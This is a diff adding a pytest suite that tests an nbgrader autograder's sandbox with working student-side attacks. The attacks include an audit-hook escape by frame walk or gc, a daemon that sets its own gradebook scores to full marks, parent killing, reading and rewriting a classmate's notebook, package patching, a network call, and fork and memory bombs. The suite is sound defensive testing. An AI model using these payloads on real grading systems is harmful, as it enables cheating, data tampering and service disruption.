@@ -1,0 +1,909 @@
+"""The escape suite: a knowing student's attacks on grading, through nbgrader's exchange and the one grading command.
+
+One class hands in A2 through nbgrader's real exchange (module-scoped, built
+once): two honest students, ``correct`` and ``victim``, and one student per
+attack, each payload inside ``exec`` of a string in an ordinary cell (so no
+scan of the source sees it). The submissions are then graded three times, each
+in its own folder ``RUN`` (the course, a copy of the ``gametrees`` package that
+the grading imports through ``PYTHONPATH``, and ``RUN/outside`` for canaries):
+
+* ``iso``: ``python -m gametrees.assignments autograde COURSE A2 --jobs 2`` behind
+  the operating system's walls (bubblewrap, the default): every attack must be
+  contained (its attacked questions 0 or flagged, no other student's grade or
+  file changed, nothing written outside the sandbox's scratch folder, the package
+  unchanged, nothing left running, the command ends with the status it promises);
+* ``unsafe``: the same attacks (not the bombs) with ``--unsafe-no-isolation``:
+  each attack's effect must be seen, so the tests prove the walls, not the
+  attacks' failure;
+* ``unpriv``: a few of them graded by an unprivileged account, as on a course hub.
+
+Attacks, by student: ``g-frame`` and ``g-gc`` reach the child's audit hook by a
+frame walk or ``gc.get_objects()`` and empty it, then use ``gt.alphabeta`` for
+Q4/Q5; ``g-importlib`` imports refused modules through ``importlib`` (and runs a
+shell); from nbgrader's kernel: ``g-daemon`` (a double-forked daemon that gives
+itself full marks in ``gradebook.db`` once grading is done), ``g-killer``
+(kills its parent), ``g-rewrite`` (rewrites victim's submission), ``g-copy``
+(reads victim's notebook), ``g-patch`` (appends to the installed
+``gametrees/classroom/verdicts.py``), ``g-net`` (connects to 127.0.0.1),
+``g-canary`` (writes files outside its folder), ``g-linger`` (leaves a process
+running), ``g-membomb`` and ``g-forkbomb`` (isolation only, and bounded), ``g-sleep``
+(sleeps in every call and in a cell) and ``g-forge`` (writes a protocol line to
+the grader's channel).
+
+Nothing of the real machine is touched: the package graded with is a copy
+under the test's tmp folder, canaries are under tmp or ``/tmp/gtcanary-*`` (removed),
+and every process left behind (found by its marker) is killed at teardown.
+"""
+
+import hashlib
+import json
+import os
+import pwd
+import re
+import secrets
+import shutil
+import signal
+import socket
+import stat
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import nbformat
+import pytest
+from test_classroom_flow import _PHASE1, A2, FULL, RIGHT_CODE, RIGHT_Q4, RIGHT_Q5, answers
+
+from gametrees import assignments as ga
+
+pytest.importorskip("nbgrader")
+psutil = pytest.importorskip("psutil")
+
+ROOT = Path(__file__).resolve().parents[1]
+#: The limits every grading here runs with (seconds): one call, one question, one submission.
+CALL_LIMIT, QUESTION_LIMIT, SUBMISSION_LIMIT = 3, 8, 30
+#: How long the grading command may take before the test calls it hung (and kills it).
+COMMAND_TIMEOUT = 300
+HONEST = ("correct", "victim")
+
+# ============================================================================
+# The payloads
+# ============================================================================
+# "@RUN@" is the grading's folder (each copy of the course gets its own), "@PORT@" the test's listener.
+
+#: What every kernel-side payload starts with: where things are, as a knowing student finds them.
+KERNEL = '''import glob, hashlib, json, os, sys, time
+RUN = "@RUN@"
+TAG = hashlib.sha1(RUN.encode()).hexdigest()[:8]
+
+def course():
+    """The course folder: up from the working folder, the grading process's folder, or where it usually is."""
+    seen, d = [], os.getcwd()
+    while True:
+        seen.append(d)
+        if os.path.dirname(d) == d:
+            break
+        d = os.path.dirname(d)
+    try:
+        seen.append(os.readlink("/proc/%d/cwd" % os.getppid()))
+    except OSError:
+        pass
+    seen.append(RUN + "/course")
+    for c in seen:
+        if os.path.isfile(os.path.join(c, "gradebook.db")):
+            return c
+    return RUN + "/course"
+
+def victims_notebooks():
+    return glob.glob(os.path.join(course(), "submitted", "victim", "A2", "*.ipynb"))
+'''
+
+#: The daemon's program (run by the double-forked process): waits for grading to end, then full marks.
+DAEMON = '''import os, sys, time, sqlite3
+course, me, run = sys.argv[1:4]
+key = ("gametrees" + ".assignments").encode()
+end = time.time() + 150
+
+def grading():
+    for p in os.listdir("/proc"):
+        if p.isdigit() and int(p) != os.getpid():
+            try:
+                cmd = open("/proc/%s/cmdline" % p, "rb").read()
+            except OSError:
+                continue
+            if key in cmd and b"autograde" in cmd and course.encode() in cmd:
+                return True
+    return False
+
+time.sleep(1)
+while grading() and time.time() < end:
+    time.sleep(0.3)
+time.sleep(0.5)
+db = sqlite3.connect(os.path.join(course, "gradebook.db"), timeout=30)
+mine = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
+        "WHERE sa.student_id = ?")
+full = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
+db.execute("UPDATE grade SET auto_score = " + full + ", manual_score = NULL WHERE notebook_id IN (" + mine + ")",
+           (me,))
+db.execute("UPDATE submitted_notebook SET flagged = 0 WHERE id IN (" + mine + ")", (me,))
+db.commit()
+open(os.path.join(run, "outside", "daemon-done"), "w").write("full marks")
+'''
+
+KERNEL_ATTACKS = {
+    "g-daemon": f'''where = course()
+pid = os.fork()
+if pid == 0:
+    try:
+        os.setsid()
+        if os.fork() == 0:
+            fd = os.open(os.devnull, os.O_RDWR)
+            for k in (0, 1, 2):
+                os.dup2(fd, k)
+            os.closerange(3, 4096)
+            os.execv(sys.executable, [sys.executable, "-c", {DAEMON!r}, where, "g-daemon", RUN,
+                                      "gtdaemon-" + TAG])
+    finally:
+        os._exit(0)
+os.waitpid(pid, 0)
+print("daemon started for", where)
+''',
+    "g-killer": '''p = os.getppid()
+try:
+    cmd = open("/proc/%d/cmdline" % p, "rb").read().replace(b"\\0", b" ").decode(errors="replace")
+except OSError:
+    cmd = "?"
+try:
+    open(RUN + "/outside/killed", "w").write("%d %s" % (p, cmd))
+except OSError:
+    pass
+if p > 1:
+    os.kill(p, 9)
+''',
+    "g-rewrite": '''for path in victims_notebooks():
+    try:
+        nb = json.load(open(path))
+        for cell in nb["cells"]:
+            if cell["metadata"].get("nbgrader", {}).get("grade_id") == "a2-q4-answer":
+                cell["source"] = ("def alphabeta_value(game, state, alpha, beta):\\n"
+                                  "    return 0  # rewritten by g-rewrite\\n")
+        json.dump(nb, open(path, "w"))
+        print("rewrote", path)
+    except OSError as exc:
+        print("could not rewrite", path, exc)
+''',
+    "g-copy": '''STOLEN = {}
+for path in victims_notebooks():
+    try:
+        for cell in json.load(open(path))["cells"]:
+            gid = cell["metadata"].get("nbgrader", {}).get("grade_id")
+            if gid in ("a2-q4-answer", "a2-q5-answer"):
+                STOLEN[gid] = "".join(cell["source"])
+    except OSError as exc:
+        print("could not read", path, exc)
+for gid, source in STOLEN.items():
+    print("copied", gid, source)
+    exec(source, globals())
+print("copied", len(STOLEN), "answers")
+''',
+    "g-patch": '''path = os.path.join(os.path.dirname(gt.__file__), "classroom", "verdicts.py")
+try:
+    with open(path, "a") as f:
+        f.write("\\n# patched by g-patch " + RUN + "\\n")
+    print("patched", path)
+except OSError as exc:
+    print("could not patch", path, exc)
+''',
+    "g-net": '''import socket
+try:
+    s = socket.create_connection(("127.0.0.1", @PORT@), timeout=3)
+    s.sendall(("g-net " + RUN + "\\n").encode())
+    s.close()
+    print("connected")
+except OSError as exc:
+    print("no network:", exc)
+''',
+    "g-canary": '''where = (RUN + "/outside/canary-kernel", "/tmp/gtcanary-" + TAG, course() + "/canary-course")
+for path in where:
+    try:
+        open(path, "w").write("g-canary")
+        print("wrote", path)
+    except OSError as exc:
+        print("could not write", path, exc)
+''',
+    "g-linger": '''import subprocess
+subprocess.Popen([sys.executable, "-c", "import time; time.sleep(90)", "gtlinger-" + TAG],
+                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                 start_new_session=True)
+print("left a process running")
+''',
+    # 48 blocks of 64 MB (3 GB), touched: a limit stops it before, or the machine (24 GB) survives it.
+    "g-membomb": '''held = []
+try:
+    while len(held) < 48:
+        held.append(b"\\1" * (64 << 20))
+except MemoryError:
+    pass
+print("memory bomb held %d MB" % (64 * len(held)))
+del held
+''',
+    # Every process forks again, up to 400 in all (a shared count), each sleeps 20 s and exits by itself.
+    "g-forkbomb": '''import ctypes, mmap
+shared = mmap.mmap(-1, 8)
+count = lambda: int.from_bytes(shared[:8], "little")
+libc, root, end = ctypes.CDLL(None), os.getpid(), time.time() + 6
+while time.time() < end and count() < 400:
+    try:
+        pid = os.fork()
+    except OSError:
+        break
+    if pid == 0:
+        libc.prctl(15, ("gtbomb" + TAG).encode(), 0, 0, 0)
+        fd = os.open(os.devnull, os.O_RDWR)
+        for k in (0, 1, 2):
+            os.dup2(fd, k)
+        shared[:8] = (count() + 1).to_bytes(8, "little")
+if os.getpid() != root:
+    time.sleep(max(0.0, end + 14 - time.time()))
+    os._exit(0)
+print("fork bomb: %d processes" % count())
+''',
+}
+
+#: Child-side: the ways to the child's audit hook, each emptying it through the hook's closure.
+ESCAPES = {
+    "g-frame": '''f = sys._getframe()
+    while f is not None and "hook" not in f.f_locals:
+        f = f.f_back
+    if f is not None:
+        _empty(f.f_locals["hook"])
+    import site
+    site.main()
+    sys.path.insert(0, RUN + "/pkg")
+    import gametrees
+    return gametrees''',
+    "g-gc": '''gc = sys.modules["_frozen_importlib"]._gcd_import("gc")
+    for o in gc.get_objects():
+        if type(o).__name__ == "function" and o.__name__ == "hook" and o.__closure__:
+            _empty(o)
+    import site
+    site.main()
+    sys.path.insert(0, RUN + "/pkg")
+    import gametrees
+    return gametrees''',
+    "g-importlib": '''importlib = sys.modules["_frozen_importlib"]._gcd_import("importlib")
+    gc = importlib.import_module("gc")
+    for o in gc.get_objects():
+        if type(o).__name__ == "function" and o.__name__ == "hook" and o.__closure__:
+            _empty(o)
+    importlib.import_module("site").main()
+    sys.path.insert(0, RUN + "/pkg")
+    try:
+        shell = "id > " + RUN + "/outside/shell-g-importlib"
+        importlib.import_module("subprocess").run(["/bin/sh", "-c", shell])
+    except Exception:
+        pass
+    return importlib.import_module("gametrees")''',
+}
+
+ESCAPE = '''import sys
+RUN = "@RUN@"
+
+def _empty(hook):
+    for cell in hook.__closure__ or ():
+        v = cell.cell_contents
+        if type(v) is set:
+            v.clear()
+        elif type(v) is tuple:
+            cell.cell_contents = ()
+
+def _open_up():
+    sys.dont_write_bytecode = True
+    @HOW@
+
+def _plain(gt, game):
+    class Plain(gt.Game):
+        is_terminal, utility = staticmethod(game.is_terminal), staticmethod(game.utility)
+        to_move, actions = staticmethod(game.to_move), staticmethod(game.actions)
+        result = staticmethod(game.result)
+    return Plain()
+
+def alphabeta_value(game, state, alpha, beta):
+    gt = _open_up()
+    return gt.alphabeta(_plain(gt, game), state).value
+'''
+ESCAPE_Q5 = '''def alphabeta_best_move(game, state):
+    gt = _open_up()
+    return gt.alphabeta(_plain(gt, game), state).move
+'''
+
+RIGHT_INNER = RIGHT_Q4.replace("alphabeta_value", "_right")
+FORGE = RIGHT_INNER + '''
+
+import sys
+
+def alphabeta_value(game, state, alpha, beta):
+    sys.__stdout__.write('{"op": "ret", "v": 0}\\n')
+    sys.__stdout__.flush()
+    return _right(game, state, alpha, beta)
+'''
+MEMBOMB_Q4 = '''def alphabeta_value(game, state, alpha, beta):
+    held = []
+    while len(held) < 48:
+        held.append(b"\\1" * (64 << 20))
+    return 0
+'''
+SLEEPY_Q4 = "import time\n\n" + RIGHT_INNER + '''
+
+def alphabeta_value(game, state, alpha, beta):
+    time.sleep(0.6)
+    return _right(game, state, alpha, beta)
+'''
+
+
+def _kernel_cell(body):
+    """A cell that runs ``body`` in nbgrader's kernel only (the grader's child has no ``gt``), in a string."""
+    return 'if "gt" in globals():\n    exec(' + repr(KERNEL + body) + ")\n"
+
+
+def _exec_cell(source):
+    return "exec(" + repr(source) + ")\n"
+
+
+def _sleepy(source):
+    """An answer whose function sleeps 0.6 s before it returns."""
+    head, _, body = source.partition("\n")
+    return "import time\n\n" + head + "\n    time.sleep(0.6)\n" + body
+
+
+def _by_hand(student):
+    a = answers(student)
+    return {k: a[k] for k in ("a2-q1-answer", "a2-q2-answer", "a2-q3-answer")}
+
+
+def _plan(secret):
+    """grade id -> source for every student (``extra``: cells the student added after the id cell)."""
+    plan = {
+        "correct": {**_by_hand("correct"), **RIGHT_CODE},
+        "victim": {**_by_hand("victim"), **RIGHT_CODE,
+                   "a2-q5-answer": RIGHT_Q5 + f"\n    # my own work: {secret}"},
+        "g-daemon": {"extra": [_kernel_cell(KERNEL_ATTACKS["g-daemon"])]},  # nothing answered: 0 of 11
+        "g-forge": {**_by_hand("g-forge"), **RIGHT_CODE, "a2-q4-answer": _exec_cell(FORGE)},
+        "g-sleep": {**{k: _sleepy(v) for k, v in _by_hand("g-sleep").items()}, "a2-q4-answer": SLEEPY_Q4,
+                    "a2-q5-answer": _sleepy(RIGHT_Q5),
+                    "extra": ['if "gt" in globals():\n    import time\n    time.sleep(600)\n']},
+    }
+    for student, how in ESCAPES.items():
+        plan[student] = {**_by_hand(student),
+                         "a2-q4-answer": _exec_cell(ESCAPE.replace("@HOW@", how)),
+                         "a2-q5-answer": _exec_cell(ESCAPE_Q5)}
+    for student in ("g-killer", "g-rewrite", "g-copy", "g-patch", "g-net", "g-canary", "g-linger",
+                    "g-membomb", "g-forkbomb"):
+        plan[student] = {**_by_hand(student), **RIGHT_CODE, "extra": [_kernel_cell(KERNEL_ATTACKS[student])]}
+    plan["g-copy"].update({"a2-q4-answer": '_stolen = globals().get("STOLEN", {}).get("a2-q4-answer", "")\n'
+                                           "exec(_stolen)\n",
+                           "a2-q5-answer": '_stolen = globals().get("STOLEN", {}).get("a2-q5-answer", "")\n'
+                                           "exec(_stolen)\n"})
+    plan["g-membomb"]["a2-q4-answer"] = _exec_cell(MEMBOMB_Q4)
+    return plan
+
+
+#: Graded with isolation only: the bombs (never without walls), the killer (alone, below) and the sleeper.
+ISOLATED_ONLY = ("g-membomb", "g-forkbomb", "g-killer", "g-sleep")
+
+# ============================================================================
+# The command, the folders, the processes
+# ============================================================================
+
+
+def _env(run):
+    env = {k: v for k, v in os.environ.items() if k not in (ga.ENV_VAR, "NBGRADER_EXECUTION", "JUPYTERHUB_USER")}
+    env["PATH"] = os.path.dirname(sys.executable) + os.pathsep + env.get("PATH", "")  # nbgrader runs alembic
+    env["PYTHONPATH"] = str(run / "pkg")  # the copy: gametrees.__file__ in every process is under RUN
+    env["GAMETREES_CHECK_LIMIT"] = "3"
+    return env
+
+
+_HELP = {}
+
+
+def _autograde_help():
+    if "text" not in _HELP:
+        done = subprocess.run([sys.executable, "-m", "gametrees.assignments", "autograde", "--help"],
+                              capture_output=True, text=True, timeout=120, check=False,
+                              env={**os.environ, "PYTHONPATH": str(ROOT)})
+        _HELP["text"] = done.stdout
+    return _HELP["text"]
+
+
+def has_walls():
+    """Whether this version of the command grades behind walls (it has ``--unsafe-no-isolation``)."""
+    return "--unsafe-no-isolation" in _autograde_help()
+
+
+def autograde_command(course, *, isolation=True, jobs=2, students=None):
+    """The one grading command, as an instructor types it (the limit options where this version has them)."""
+    argv = [sys.executable, "-m", "gametrees.assignments", "autograde", str(course), "A2", "--jobs", str(jobs),
+            "--call-limit", str(CALL_LIMIT)]
+    text = _autograde_help()
+    for option, value in (("--question-limit", QUESTION_LIMIT), ("--submission-limit", SUBMISSION_LIMIT)):
+        if option in text:
+            argv += [option, str(value)]
+    if not isolation and "--unsafe-no-isolation" in text:
+        argv.append("--unsafe-no-isolation")
+    for student in students or ():
+        argv += ["--student", student]
+    return argv
+
+
+def run_command(argv, run, env, *, timeout=COMMAND_TIMEOUT, user=None):
+    """Run the command (its output to files, so a process it leaves cannot hold a pipe open); kill it at timeout."""
+    out, err = run / "command.out", run / "command.err"
+    as_user = {} if user is None else {"user": user.pw_uid, "group": user.pw_gid, "extra_groups": []}
+    t0 = time.monotonic()
+    with open(out, "wb") as fo, open(err, "wb") as fe:
+        proc = subprocess.Popen(argv, stdout=fo, stderr=fe, env=env, cwd=run, start_new_session=True,
+                                **as_user)
+        try:
+            code = proc.wait(timeout=timeout)
+        except subprocess.TimeoutExpired:
+            os.killpg(proc.pid, signal.SIGKILL)  # the group this test started
+            proc.wait()
+            code = None
+    return {"code": code, "seconds": time.monotonic() - t0, "stdout": out.read_text(errors="replace"),
+            "stderr": err.read_text(errors="replace")}
+
+
+def tag(run):
+    return hashlib.sha1(str(run).encode()).hexdigest()[:8]
+
+
+def leftovers(run):
+    """Processes started by a grading in ``run`` that are still there: by their marker, their command or folder."""
+    markers = (f"gtlinger-{tag(run)}", f"gtdaemon-{tag(run)}", f"gtbomb{tag(run)}", str(run))
+    mine = {os.getpid()} | {p.pid for p in psutil.Process().parents()}
+    found = []
+    for p in psutil.process_iter(["pid", "name", "cmdline", "cwd", "status"]):
+        if p.info["pid"] in mine or p.info["status"] == psutil.STATUS_ZOMBIE:
+            continue
+        text = " ".join([p.info["name"] or "", *(p.info["cmdline"] or []), p.info["cwd"] or ""])
+        if any(m in text for m in markers):
+            found.append((p.info["pid"], text[:200]))
+    return found
+
+
+def kill_leftovers(run):
+    for pid, _ in leftovers(run):
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except ProcessLookupError:
+            pass
+
+
+def digest(folder):
+    """sha256 of every file under ``folder``, by relative path."""
+    folder = Path(folder)
+    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def canaries(run):
+    return [run / "outside" / "canary-kernel", Path(f"/tmp/gtcanary-{tag(run)}"), run / "course" / "canary-course",
+            run / "outside" / "shell-g-importlib", run / "outside" / "daemon-done", run / "outside" / "killed"]
+
+
+class Listener:
+    """A TCP server on 127.0.0.1 that keeps what every connection sends."""
+
+    def __init__(self):
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(16)
+        self.sock.settimeout(0.3)
+        self.port = self.sock.getsockname()[1]
+        self.received = []
+        self.stop = threading.Event()
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self):
+        while not self.stop.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            conn.settimeout(2)
+            try:
+                self.received.append(conn.recv(4096).decode(errors="replace"))
+            except OSError:
+                self.received.append("")
+            conn.close()
+
+    def close(self):
+        self.stop.set()
+        self.thread.join()
+        self.sock.close()
+
+
+@pytest.fixture(scope="module")
+def listener():
+    server = Listener()
+    yield server
+    server.close()
+
+
+@pytest.fixture(scope="module")
+def built(tmp_path_factory, listener):
+    """The class through nbgrader's exchange: every student fetches, edits and submits; the instructor collects."""
+    tmp = tmp_path_factory.mktemp("escapes")
+    root, exchange, homes = tmp / "build" / "course", tmp / "build" / "exchange", tmp / "build" / "homes"
+    (root / "source" / "A2").mkdir(parents=True)
+    exchange.mkdir(mode=0o777)
+    exchange.chmod(0o777)
+    homes.mkdir()
+    (root / "nbgrader_config.py").write_text(
+        "c = get_config()\nc.CourseDirectory.course_id = 'gametrees'\n"
+        f"c.Exchange.root = {str(exchange)!r}\nc.Execute.timeout = 60\n")
+    nbformat.write(nbformat.read(A2, as_version=4), root / "source" / "A2" / A2.name)
+    secret = "SECRET-" + secrets.token_hex(8)
+    plan = json.loads(json.dumps(_plan(secret)).replace("@PORT@", str(listener.port)))
+    env = _env(tmp)
+    env["PYTHONPATH"] = str(ROOT)
+    out = subprocess.run([sys.executable, "-c", _PHASE1, str(root), str(exchange), str(homes), json.dumps(plan)],
+                         capture_output=True, text=True, timeout=600, env=env, check=False)
+    assert out.returncode == 0, out.stdout[-3000:] + out.stderr[-3000:]
+    return {"tmp": tmp, "course": root, "secret": secret, "students": sorted(plan)}
+
+
+def make_run(built, name, students):
+    """``RUN``: a copy of the course with only ``students``' submissions (their payloads pointed at ``RUN``),
+    a copy of the package (compiled), and an empty ``outside`` folder."""
+    run = built["tmp"] / name
+    course = run / "course"
+    shutil.copytree(built["course"], course, ignore=shutil.ignore_patterns("submitted"))
+    for student in students:
+        src = built["course"] / "submitted" / student
+        shutil.copytree(src, course / "submitted" / student)
+        for nb in (course / "submitted" / student).rglob("*.ipynb"):
+            nb.write_text(nb.read_text(encoding="utf-8").replace("@RUN@", str(run)), encoding="utf-8")
+    shutil.copytree(ROOT / "gametrees", run / "pkg" / "gametrees", ignore=shutil.ignore_patterns("__pycache__"))
+    subprocess.run([sys.executable, "-m", "compileall", "-q", str(run / "pkg")], check=True, timeout=300)
+    (run / "outside").mkdir()
+    return run
+
+
+def gradebook(course, students):
+    """{student: ({grade id: score}, flagged)} from nbgrader's gradebook."""
+    from nbgrader.api import Gradebook, MissingEntry
+
+    out = {}
+    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", course_id="gametrees") as gb:
+        for student in students:
+            try:
+                sub = gb.find_submission("A2", student)
+            except MissingEntry:
+                out[student] = ({}, False)
+                continue
+            out[student] = ({g.name: g.score for nb_ in sub.notebooks for g in nb_.grades},
+                            any(nb_.flagged for nb_ in sub.notebooks))
+    return out
+
+
+def autograded(run, student):
+    """The autograded notebook of ``student`` (None when there is none)."""
+    path = run / "course" / "autograded" / student / "A2" / A2.name
+    return nbformat.read(path, as_version=4) if path.is_file() else None
+
+
+def outputs(run, student):
+    nb = autograded(run, student)
+    if nb is None:
+        return ""
+    return "\n".join(json.dumps(c.get("outputs", [])) for c in nb.cells if c.cell_type == "code")
+
+
+def verdicts(run, student):
+    nb = autograded(run, student)
+    meta = nb.metadata.get("gametrees", {}) if nb is not None else {}
+    return {v["grade_id"]: v for v in meta.get("verdicts", [])}, meta
+
+
+def grade_run(built, name, students, *, isolation, jobs=2, user=None, wait_for=None):
+    """Copy, grade, and read back: the command's outcome, leftovers, gradebook, hashes before and after."""
+    run = make_run(built, name, students)
+    env = _env(run)
+    if user is not None:
+        home = run / "home"
+        home.mkdir()
+        env["HOME"] = str(home)
+        for path in [run, *run.rglob("*")]:
+            os.chown(path, user.pw_uid, user.pw_gid, follow_symlinks=False)
+    before = {"submitted": digest(run / "course" / "submitted"), "pkg": digest(run / "pkg")}
+    argv = autograde_command(run / "course", isolation=isolation, jobs=jobs)
+    got = run_command(argv, run, env, user=user)
+    got["left"] = leftovers(run)
+    if wait_for is not None:
+        end = time.monotonic() + 30
+        while not wait_for(run) and time.monotonic() < end:
+            time.sleep(0.5)
+    else:
+        time.sleep(3)  # what a daemon would do once grading is done, it has done by now
+    got.update(run=run, secret=built["secret"], before=before, argv=argv, grades=gradebook(run / "course", students),
+               after={"submitted": digest(run / "course" / "submitted"), "pkg": digest(run / "pkg")},
+               canaries=[p for p in canaries(run) if p.exists()])
+    return got
+
+
+def _cleanup(run):
+    kill_leftovers(run)
+    Path(f"/tmp/gtcanary-{tag(run)}").unlink(missing_ok=True)
+
+
+@pytest.fixture(scope="module")
+def iso(built):
+    """Every submission graded behind the walls (the default isolation), --jobs 2."""
+    if not has_walls():
+        pytest.fail("this autograde has no walls yet (no --unsafe-no-isolation): the attacks are not run unconfined")
+    run = built["tmp"] / "iso"
+    try:
+        yield grade_run(built, "iso", built["students"], isolation=True)
+    finally:
+        _cleanup(run)
+
+
+@pytest.fixture(scope="module")
+def unsafe(built):
+    """The attacks that are safe to run (no bombs), graded with --unsafe-no-isolation: each must work."""
+    students = [s for s in built["students"] if s not in ISOLATED_ONLY]
+    run = built["tmp"] / "unsafe"
+    try:
+        yield grade_run(built, "unsafe", students, isolation=False,
+                        wait_for=lambda r: (r / "outside" / "daemon-done").exists())
+    finally:
+        _cleanup(run)
+
+
+def _summary(got):
+    return (f"exit {got['code']} after {got['seconds']:.0f} s\n" + got["stdout"][-3000:] + got["stderr"][-3000:]
+            + f"\nleft running: {got['left']}\ncanaries: {got['canaries']}")
+
+
+def _line(got, student):
+    """The command's line for ``student``: (earned, points, seconds), or None."""
+    m = re.search(rf"^{re.escape(student)}: ([\d.]+) of ([\d.]+) points.*\(([\d.]+) s\)$", got["stdout"], re.MULTILINE)
+    return None if m is None else tuple(float(x) for x in m.groups())
+
+
+def contained(got, student, gids=("a2-q4-check", "a2-q5-check")):
+    """Each of ``gids`` scored 0 or flagged (a student not graded at all counts as contained)."""
+    scores, _ = got["grades"][student]
+    v, _ = verdicts(got["run"], student)
+    return {g: (scores.get(g, 0) or 0) == 0 or bool(v.get(g, {}).get("flags")) for g in gids}
+
+
+# ============================================================================
+# Behind the walls: every attack contained
+# ============================================================================
+
+
+def test_the_command_ends_with_the_status_it_promises(iso):
+    got = iso
+    assert got["code"] in (0, 1), _summary(got)
+    last = got["stdout"].strip().splitlines()[-1]
+    if got["code"] == 1:  # one could not be graded: named in the last line, and never an honest student
+        assert not any(s in last for s in HONEST), last
+        assert any(s in last for s in ISOLATED_ONLY), last
+    for student in HONEST:
+        assert _line(got, student) is not None and _line(got, student)[:2] == (11, 11), _summary(got)
+
+
+def test_honest_students_keep_full_marks_and_their_files(iso):
+    for student in HONEST:
+        assert iso["grades"][student] == (FULL, False), student
+        assert {k: v for k, v in iso["after"]["submitted"].items() if k.startswith(student + "/")} == {
+            k: v for k, v in iso["before"]["submitted"].items() if k.startswith(student + "/")}, student
+
+
+def test_no_submitted_file_changed_and_the_package_is_unchanged(iso):
+    assert iso["after"]["submitted"] == iso["before"]["submitted"]
+    assert iso["after"]["pkg"] == iso["before"]["pkg"]
+
+
+def test_nothing_written_outside_and_nothing_left_running(iso):
+    assert iso["canaries"] == [], _summary(iso)
+    assert iso["left"] == [], _summary(iso)
+    assert leftovers(iso["run"]) == []
+
+
+@pytest.mark.parametrize("student", sorted(ESCAPES))
+def test_the_hook_opened_finds_no_library(iso, student):
+    assert all(contained(iso, student).values()), (contained(iso, student), iso["grades"][student])
+
+
+def test_a_daemon_from_the_kernel_never_edits_the_gradebook(iso):
+    scores, _ = iso["grades"]["g-daemon"]
+    assert sum(v or 0 for v in scores.values()) == 0, scores
+    assert not (iso["run"] / "outside" / "daemon-done").exists()
+
+
+def test_a_kernel_reading_or_rewriting_a_classmate_finds_nothing(iso):
+    assert iso["secret"] not in outputs(iso["run"], "g-copy")
+    assert "rewrote" not in outputs(iso["run"], "g-rewrite")
+    assert iso["grades"]["victim"] == (FULL, False)
+    assert all(contained(iso, "g-copy").values())
+
+
+def test_no_network_from_the_kernel(iso, listener):
+    assert not any(str(iso["run"]) in r for r in listener.received), listener.received
+
+
+def test_a_kernel_that_kills_its_parent_stops_only_itself(iso):
+    assert iso["code"] is not None, _summary(iso)
+    assert not (iso["run"] / "outside" / "killed").exists()
+
+
+def test_the_bombs_hit_their_limits(iso):
+    text = outputs(iso["run"], "g-membomb")
+    assert "memory bomb held 3072 MB" not in text, text[-500:]
+    m = re.search(r"fork bomb: (\d+) processes", outputs(iso["run"], "g-forkbomb"))
+    assert m is None or int(m.group(1)) < 400, m.group(0)
+    assert all(contained(iso, "g-membomb", ("a2-q4-check",)).values())
+
+
+def test_a_sleeper_costs_at_most_its_own_limits(iso):
+    line = _line(iso, "g-sleep")
+    seconds = line[2] if line is not None else None
+    if seconds is None:  # not graded: named in the last line
+        assert "g-sleep" in iso["stdout"].strip().splitlines()[-1]
+    else:
+        assert seconds <= SUBMISSION_LIMIT + 10, line
+        assert line[0] < line[1]
+    for student in HONEST:
+        assert _line(iso, student)[2] < SUBMISSION_LIMIT, _line(iso, student)
+
+
+@pytest.mark.parametrize("walls", ["iso", "unsafe"])
+def test_a_forged_line_on_the_grader_s_channel_is_reported(walls, request):
+    got = request.getfixturevalue(walls)  # the channel's check does not depend on the walls
+    scores, _ = got["grades"]["g-forge"]
+    assert scores.get("a2-q4-check") == 0, scores
+    v, _ = verdicts(got["run"], "g-forge")
+    said = " ".join(v["a2-q4-check"].get("errors", []) + v["a2-q4-check"].get("flags", [])
+                    + v["a2-q4-check"].get("lines", []))
+    assert "wrote to the grader's channel" in said, v["a2-q4-check"]
+
+
+def test_every_verdict_says_it_was_graded_behind_bubblewrap(iso):
+    for student in HONEST:
+        assert verdicts(iso["run"], student)[1].get("isolation") == "bwrap", student
+
+
+# ============================================================================
+# Without walls: the same attacks do what they were written for
+# ============================================================================
+
+
+def test_unsafe_grading_says_so(unsafe):
+    assert unsafe["code"] == 0, _summary(unsafe)
+    assert re.search(r"unsafe|no isolation|without isolation", unsafe["stdout"] + unsafe["stderr"], re.IGNORECASE)
+    for student in HONEST:
+        assert verdicts(unsafe["run"], student)[1].get("isolation") == "none", student
+
+
+@pytest.mark.parametrize("student", sorted(ESCAPES))
+def test_unsafe_the_hook_opened_reaches_the_library(unsafe, student):
+    scores, _ = unsafe["grades"][student]
+    assert (scores.get("a2-q4-check"), scores.get("a2-q5-check")) == (4, 2), (scores, _summary(unsafe))
+
+
+def test_unsafe_a_shell_runs_after_importlib_opened_the_hook(unsafe):
+    assert (unsafe["run"] / "outside" / "shell-g-importlib").exists(), _summary(unsafe)
+
+
+def test_unsafe_a_daemon_gives_itself_full_marks_after_grading(unsafe):
+    assert (unsafe["run"] / "outside" / "daemon-done").exists(), _summary(unsafe)
+    assert unsafe["grades"]["g-daemon"] == (FULL, False)
+
+
+def test_unsafe_a_kernel_rewrites_and_reads_a_classmate(unsafe):
+    path = "victim/A2/" + A2.name
+    assert unsafe["after"]["submitted"][path] != unsafe["before"]["submitted"][path]
+    assert "rewritten by g-rewrite" in (unsafe["run"] / "course" / "submitted" / path).read_text()
+    assert unsafe["secret"] in outputs(unsafe["run"], "g-copy")
+
+
+def test_unsafe_a_kernel_edits_the_installed_package(unsafe):
+    verdicts_py = unsafe["run"] / "pkg" / "gametrees" / "classroom" / "verdicts.py"
+    assert f"# patched by g-patch {unsafe['run']}" in verdicts_py.read_text()
+    assert unsafe["after"]["pkg"] != unsafe["before"]["pkg"]
+
+
+def test_unsafe_a_kernel_reaches_the_network(unsafe, listener):
+    assert any(f"g-net {unsafe['run']}" in r for r in listener.received), listener.received
+
+
